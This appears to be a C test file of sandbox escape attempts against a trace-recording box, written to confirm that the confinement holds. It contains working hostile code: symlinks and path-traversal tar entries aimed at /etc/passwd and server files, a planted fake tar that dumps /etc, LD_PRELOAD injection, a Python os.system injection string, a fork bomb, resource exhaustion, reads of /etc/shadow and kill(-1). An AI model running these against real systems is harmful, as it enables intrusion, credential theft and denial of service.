// The attacks of tests/test_box_attacks.py on what comes out of a box, and on the box by what is plainly forbidden; attacks_hidden.c has those
// that go around its counting and its ends.
#include "attacks.h"
const char* server;
int port;
struct known known[128];
int count;

// --- links in place of the recorder's files

ATTACK(relative_link) {
  right("");
  unlink("rank-0.txt");
  symlink("../../../../../../etc/passwd", "rank-0.txt");
}

ATTACK(link_by_the_servers_working_folder) {
  state("rank-0.state", 0, 1, 0, 1, "\nimport os; os.system('id > pwned')#");
  unlink("rank-0.txt");
  unlink("rank-1.state");
  symlink("/proc/self/cwd/app_module.py", "rank-0.txt");
  _exit(0);
}

ATTACK(link_by_the_root) {
  right("");
  char to[4096];
  snprintf(to, sizeof to, "/proc/self/root%s/course.db", server);
  unlink("rank-1.txt");
  symlink(to, "rank-1.txt");
}

ATTACK(link_that_leads_to_itself) {
  right("");
  unlink("rank-0.txt");
  symlink("rank-0.txt", "rank-0.txt");
}

ATTACK(link_in_place_of_a_state) {
  right("");
  unlink("rank-1.state");
  symlink("/proc/self/environ", "rank-1.state");
}

ATTACK(link_in_place_of_the_folder) {
  right("");
  chdir("..");
  rename("t.part", "away");
  symlink("/proc/self/root/etc", "t.part");
}

ATTACK(link_in_place_of_the_whole_trace) {
  right("");
  char to[4096];
  snprintf(to, sizeof to, "%s/course.db", server);
  symlink(to, "../t.tar.zst");
  symlink(to, "index.txt");
  symlink(to, "trace");
}

ATTACK(links_swapped_in_and_out) {
  right("");
  daemonized();
  for (;;) {
    symlink("/proc/1/environ", "x");
    rename("x", "rank-0.txt");
    right("");
  }
}

ATTACK(hard_link) {
  right("");
  unlink("rank-1.txt");
  link("rank-0.txt", "rank-1.txt");
}

// --- what is no file

ATTACK(named_pipe) {
  right("");
  unlink("rank-0.txt");
  mkfifo("rank-0.txt", 0666);
}

ATTACK(socket) {
  right("");
  unlink("rank-0.txt");
  struct sockaddr_un a = {.sun_family = AF_UNIX, .sun_path = "rank-0.txt"};
  bind(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr*)&a, sizeof a);
}

ATTACK(device) {
  right("");
  unlink("rank-0.txt");
  if (mknod("rank-0.txt", S_IFCHR | 0666, 0x105) == 0) LEAK("device");
}

ATTACK(folder) {
  right("");
  unlink("rank-0.txt");
  mkdir("rank-0.txt", 0777);
}

// --- too large, too many

ATTACK(sparse_files) {
  right("");
  for (int r = 0; r < 2; r++) {
    char n[64];
    snprintf(n, 64, "rank-%d.txt", r);
    truncate(n, 60 << 20);
  }
}

ATTACK(two_hundred_thousand_files) {
  for (int i = 0; i < 200000; i++) {
    char n[64];
    snprintf(n, 64, "f%d", i);
    close(open(n, O_CREAT, 0600));
  }
  pause();
}

// --- forged states

ATTACK(more_written_than_there_is) {
  right("");
  state("rank-0.state", 0, 2, 1ull << 62, 2, "");
  state("rank-1.state", 1, 2, 1ull << 61, 2, "");
}

ATTACK(a_negative_length) {
  right("");
  state("rank-0.state", 0, 2, (uint64_t)-4096, 2, "");
  state("rank-1.state", 1, 2, (uint64_t)-1, 2, "");
}

ATTACK(lines_in_the_name_of_a_call) {
  right("");
  state("rank-0.state", 0, 2, 40, 1, "MPI_Recv\n0 send 1 0 8 6\n\033]0;pwned\007");
}

ATTACK(wrong_magic) {
  right("");
  for (int r = 0; r < 2; r++) {
    char n[64];
    snprintf(n, 64, "rank-%d.state", r);
    put(n, "RETROBAD");
  }
}

ATTACK(states_of_other_ranks) {
  right("");
  state("rank-0.state", 7, 9, 10, 2, "");
  state("rank-1.state", 0, 2, 10, 2, "");
}

ATTACK(thousand_million_ranks) {
  right("");
  state("rank-0.state", 0, 1000000000, 40, 2, "");
  unlink("rank-1.state");
}

ATTACK(million_ranks) {
  right("");
  state("rank-0.state", 0, 1000000, 40, 2, "");
  unlink("rank-1.state");
}

// --- hostile traces

ATTACK(a_rank_beyond_all) { right("999999999999 init\n"); }

ATTACK(a_long_line) {
  static char row[30 << 20];
  memset(row, '1', sizeof row - 2);
  memcpy(row, "0 waitall 2 reqs=", 17);
  row[sizeof row - 2] = 10;
  right(row);
}

ATTACK(a_group_of_all) { right("0 comm_create 1 0-999999999\n"); }

ATTACK(escape_sequences) { right("0 \033]0;pwned\007send 1 0 8 6\n"); }

ATTACK(compressed) {
  right("");
  for (int r = 0; r < 2; r++) {
    char n[64];
    snprintf(n, 64, "rank-%d.txt", r);
    FILE* f = fopen(n, "wb");
    fwrite("\x28\xb5\x2f\xfd\x04\x58", 1, 6, f);
    for (int i = 0; i < 40000; i++) fwrite("\x03\x00\x10\x00", 1, 4, f);
    long n2 = ftell(f);
    fclose(f);
    snprintf(n, 64, "rank-%d.state", r);
    state(n, r, 2, n2, 2, "");
  }
}

// --- forged archives on the stream itself

ATTACK(an_archive_with_a_path) {
  right("");
  forged("../../app_module.py", '0', 6);
}

ATTACK(an_archive_with_an_absolute_path) {
  right("");
  forged("/etc/passwd", '0', 6);
}

ATTACK(an_archive_with_a_link) {
  right("");
  forged("t.part/rank-0.txt", '2', 0);
}

ATTACK(an_archive_that_ends_early) {
  right("");
  forged("t.part/rank-0.txt", '0', 077777777777);
}

ATTACK(an_extended_archive) {
  right("");
  forged("t.part/rank-0.txt", 'x', 6);
}

ATTACK(a_long_stream) {
  const int f = stream(0);
  static char z[1 << 20];
  for (int i = 0; f >= 0 && i < 200; i++)
    if (write(f, z, sizeof z) < 0) break;
}

ATTACK(writing_on_after_the_end) {
  right("");
  const int f = stream(O_NONBLOCK);
  daemonized();
  for (;;) {
    add("rank-0.txt", "0 send 1 0 8 6\n");
    if (f >= 0) write(f, "more", 4);
  }
}

ATTACK(another_archiver) {
  right("");
  put("../tar", "#!/bin/sh\necho LEAK; cat /etc/*\n");
  chmod("../tar", 0755);
  put("../.tarrc", "--to-command=x\n");
  setenv("TAR_OPTIONS", "--checkpoint=1 --checkpoint-action=exec=false", 1);
  setenv("LD_PRELOAD", "/box/evil.so", 1);
  TRY("preload", open("/etc/ld.so.preload", O_WRONLY | O_CREAT, 0644));
  TRY("tar", open("/usr/bin/tar", O_WRONLY));
}

// --- disk and memory

ATTACK(filling_all_that_can_be_written) {
  const char* in[] = {"/box", "/tmp", "/dev/shm", "/dev", "/", "/proc", "/usr", "/given", "/etc"};
  static char z[1 << 20];
  long all = 0;
  for (int d = 0; d < 9; d++)
    for (int i = 0; i < 64; i++) {
      char n[64];
      snprintf(n, 64, "%s/f%d", in[d], i);
      int f = open(n, O_WRONLY | O_CREAT, 0600);
      if (f < 0) break;
      while (write(f, z, sizeof z) == sizeof z && ++all % 60);
      close(f);
    }
  if (all > 256)
    LEAK("%ld MiB", all);
  else
    printf("held: %ld MiB\n", all);
}

ATTACK(files_and_memory_together) {
  static char z[1 << 20];
  for (int d = 0; d < 4; d++) {
    char n[64];
    snprintf(n, 64, "/dev/shm/f%d", d);
    int f = open(n, O_WRONLY | O_CREAT, 0600);
    for (int i = 0; i < 50; i++)
      if (write(f, z, sizeof z) < 0) break;
  }
  for (int i = 0; i < 150; i++) held(1 << 20);
  sleep(60);
  LEAK("350 MiB");
}

ATTACK(memory_of_those_who_hide) {
  for (int i = 0; i < 8; i++)
    if (!fork()) {
      prctl(PR_SET_DUMPABLE, 0);
      setsid();
      clearenv();
      if (fork()) _exit(0);
      held(64 << 20);
      pause();
    }
  sleep(60);
  LEAK("512 MiB");
}

ATTACK(memory_that_nobody_holds) {
  TRY("shared", mmap(0, 1 << 30, PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0));
  TRY("memfd", syscall(SYS_memfd_create, "x", 0));
  TRY("shm", syscall(SYS_shmget, 0, 1 << 30, 01600));
  TRY("zero", open("/dev/zero", O_RDWR));
  TRY("mq", syscall(SYS_mq_open, "x", 66, 384, 0));
  TRY("queue", syscall(SYS_msgget, 0, 01600));
}

ATTACK(tables_of_pages) {
  for (int k = 0; k < 40; k++)
    if (!fork()) {
      char* p = mmap(0, 7ul << 30, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
      volatile char c;
      if (p != MAP_FAILED)
        for (size_t i = 0; i < 7ul << 30; i += 2 << 20) c = p[i];
      (void)c;
      pause();
    }
  sleep(60);
  LEAK("560 MiB");
}

ATTACK(buffers_of_sockets) {
  static char z[1 << 17];
  for (int k = 0; k < 20; k++)
    if (!fork()) {
      int s[2];
      while (socketpair(AF_UNIX, SOCK_STREAM, 0, s) == 0) {
        send(s[0], z, sizeof z, MSG_DONTWAIT);
        send(s[1], z, sizeof z, MSG_DONTWAIT);
      }
      pause();
    }
  sleep(60);
  LEAK("sockets");
}

ATTACK(fork_bomb) {
  setsid();
  for (;;) fork();
}

ATTACK(output_without_an_end) {
  static char z[1 << 16];
  memset(z, 97, sizeof z);
  for (;;) write(1, z, sizeof z);
}

ATTACK(a_process_that_stays) {
  daemonized();
  for (;;) sleep(1);
}

// --- calls

ATTACK(other_processes) {
  TRY("attach", ptrace(PTRACE_ATTACH, getppid(), 0, 0));
  TRY("seize", ptrace(PTRACE_SEIZE, 1, 0, 0));
  TRY("traceme", ptrace(PTRACE_TRACEME, 0, 0, 0));
  char b[8];
  struct iovec v = {b, 8};
  TRY("readv", process_vm_readv(getppid(), &v, 1, &v, 1, 0));
  TRY("writev", process_vm_writev(1, &v, 1, &v, 1, 0));
  int p = syscall(434, getppid(), 0);
  TRY("descriptor", syscall(438, p, 1, 0));
}

ATTACK(mounts) {
  TRY("mount", mount("none", "/box/tmp", "tmpfs", 0, 0));
  TRY("remount", mount(0, "/", 0, MS_REMOUNT | MS_BIND, 0));
  TRY("umount", umount2("/proc", 2));
  TRY("fsopen", syscall(430, "tmpfs", 0));
  TRY("open_tree", syscall(428, -100, "/", 1));
  TRY("chroot", chroot("/box"));
  TRY("pivot", syscall(SYS_pivot_root, "/box", "/box"));
  TRY("setattr", syscall(442, -100, "/", 0, 0, 0));
}

ATTACK(namespaces) {
  TRY("unshare", unshare(CLONE_NEWUSER));
  TRY("both", unshare(CLONE_NEWNS | CLONE_NEWUSER));
  TRY("clone", syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
  TRY("net", syscall(SYS_clone, CLONE_NEWNET | SIGCHLD, 0, 0, 0, 0));
  char a[88] = {0};
  a[3] = 0x10;
  TRY("clone3", syscall(435, a, sizeof a));
  int n = open("/proc/1/ns/mnt", O_RDONLY);
  TRY("setns", setns(n, 0));
  TRY("uid", setuid(0));
  TRY("gid", setgid(0));
}

ATTACK(the_kernel) {
  TRY("keyctl", syscall(SYS_keyctl, 0, -3, 1));
  TRY("add_key", syscall(SYS_add_key, "user", "a", "b", 1, -3));
  TRY("bpf", syscall(SYS_bpf, 0, 0, 0));
  TRY("userfaultfd", syscall(SYS_userfaultfd, 1));
  TRY("perf", syscall(SYS_perf_event_open, 0, 0, -1, -1, 0));
  TRY("io_uring", syscall(425, 8, 0));
  TRY("kexec", syscall(SYS_kexec_load, 0, 0, 0, 0));
  TRY("module", syscall(SYS_finit_module, 0, "", 0));
  TRY("reboot", syscall(SYS_reboot, 0, 0, 0, 0));
  TRY("log", syscall(SYS_syslog, 3, 0, 0));
  char h[64] = {0};
  TRY("handle", syscall(SYS_open_by_handle_at, -100, h, 0));
  TRY("fanotify", syscall(SYS_fanotify_init, 0, 0));
  TRY("sysrq", open("/proc/sysrq-trigger", O_WRONLY));
  TRY("pattern", open("/proc/sys/kernel/core_pattern", O_WRONLY));
}

ATTACK(calls_by_other_numbers) {
#ifdef __x86_64__
  int st;
  if (!fork()) {
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(26), "b"(0) : "memory");
    LEAK("i386 %ld", r);
    _exit(0);
  }
  wait(&st);
  if (!WIFSIGNALED(st)) LEAK("not ended");
  if (!fork()) {
    syscall(0x40000000 | 39);
    LEAK("x32");
    _exit(0);
  }
  wait(&st);
  if (!WIFSIGNALED(st)) LEAK("not ended");
#endif
  puts("held");
}

ATTACK(terminals) {
  char c = 'x';
  for (int f = 0; f < 3; f++) {
    TRY("TIOCSTI", ioctl(f, 0x5412, &c));
    TRY("TIOCLINUX", ioctl(f, 0x541c, &c));
  }
  TRY("tty", open("/dev/tty", O_RDWR));
  TRY("ptmx", open("/dev/ptmx", O_RDWR));
}

ATTACK(what_was_open_before) {
  DIR* d = opendir("/proc");
  struct dirent* e;
  while ((e = readdir(d)))
    for (int f = 0; f < 256; f++) {
      char p[300], to[300];
      int n;
      snprintf(p, 300, "/proc/%.20s/fd/%d", e->d_name, f);
      if (atoi(e->d_name) < 1 || atoi(e->d_name) == getpid() || (n = readlink(p, to, 299)) < 0) continue;
      to[n] = 0;
      if (strncmp(to, "pipe:", 5) && strcmp(to, "/dev/null") && strncmp(to, "anon_inode:", 11)) LEAK("%s is %s", p, to);
    }
  for (int f = 3; f < 256; f++)
    if (f != dirfd(d) && fcntl(f, F_GETFD) != -1) LEAK("%d", f);
  puts("held");
}

ATTACK(killing_what_is_above) {
  right("");
  daemonized();
  kill(1, SIGKILL);
  kill(getppid(), SIGKILL);
  for (int p = 2; p < 9; p++)
    if (p != getpid()) kill(p, SIGKILL);
  kill(-1, SIGKILL);
  for (;;) pause();
}

ATTACK(networks) {
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
  a.sin_addr.s_addr = htonl(0x7f000001);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  TRY("loopback", connect(s, (struct sockaddr*)&a, sizeof a));
  struct sockaddr_un u = {.sun_family = AF_UNIX};
  sprintf(u.sun_path + 1, "retrompi-%d", port);
  s = socket(AF_UNIX, SOCK_STREAM, 0);
  TRY("abstract", connect(s, (struct sockaddr*)&u, sizeof(sa_family_t) + 1 + strlen(u.sun_path + 1)));
  TRY("vsock", socket(40, SOCK_STREAM, 0));
  TRY("packet", socket(17, SOCK_RAW, 0));
  TRY("alg", socket(38, SOCK_SEQPACKET, 0));
  TRY("raw", socket(AF_INET, SOCK_RAW, 1));
  TRY("xdp", socket(44, SOCK_RAW, 0));
}

ATTACK(files_of_the_server) {
  const char* n[] = {"course.db", "app_module.py"};
  char p[4096];
  const char* by[] = {"", "/proc/1/root", "/proc/1/cwd", "/proc/self/root", "/box/.."};
  for (int i = 0; i < 10; i++) {
    snprintf(p, sizeof p, "%s%s/%s", by[i / 2], server, n[i % 2]);
    if (open(p, O_RDONLY) != -1) LEAK("%s", p);
  }
  TRY("shadow", open("/etc/shadow", O_RDONLY));
  TRY("passwd", open("/etc/passwd", O_RDONLY));
  TRY("home", open("/root", O_RDONLY));
  TRY("users", open("/home", O_RDONLY));
  TRY("run", open("/run", O_RDONLY));
  TRY("disk", open("/dev/vda", O_RDONLY));
  TRY("kcore", open("/proc/kcore", O_RDONLY));
}

ATTACK(words_of_the_servers_environment) {
  DIR* d = opendir("/proc");
  struct dirent* e;
  static char b[1 << 16];
  const char* files[] = {"environ", "cmdline"};
  while ((e = readdir(d)))
    for (int k = 0; k < 2; k++) {
      char p[300];
      snprintf(p, 300, "/proc/%.20s/%s", e->d_name, files[k]);
      int f = open(p, O_RDONLY);
      if (f < 0) continue;
      int n = read(f, b, sizeof b);
      close(f);
      if (n > 0 && memmem(b, n, "4711", 4)) LEAK("%s", p);
    }
  puts("held");
}

ATTACK(rights) {
  if (prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) != 1) LEAK("new privileges");
  if (getuid() == 0 || geteuid() == 0) LEAK("root");
  const char* who[] = {"/proc/1/status", "/proc/self/status"};
  for (int k = 0; k < 2; k++) {
    char b[8192] = "";
    int f = open(who[k], O_RDONLY);
    read(f, b, sizeof b - 1);
    if (!strstr(b, "CapEff:\t0000000000000000") || !strstr(b, "CapBnd:\t0000000000000000") || !strstr(b, "Seccomp:\t2")) LEAK("%s", b);
  }
  TRY("map", open("/proc/self/uid_map", O_WRONLY) < 0 ? -1 : write(open("/proc/self/uid_map", O_WRONLY), "0 0 1", 5));
  puts("held");
}

int main(int n, char** v) {
  if (n < 4) {
    for (int i = 0; i < count; i++) puts(known[i].name);
    return 0;
  }
  server = v[2];
  port = atoi(v[3]);
  setvbuf(stdout, 0, _IOLBF, 0);
  const char* part = getenv("RETROMPI_RECORD_DIR");
  if (part && chdir(part)) return 8;
  for (int i = 0; i < count; i++)
    if (strcmp(known[i].name, v[1]) == 0) {
      known[i].run();
      return 0;
    }
  return 9;
}
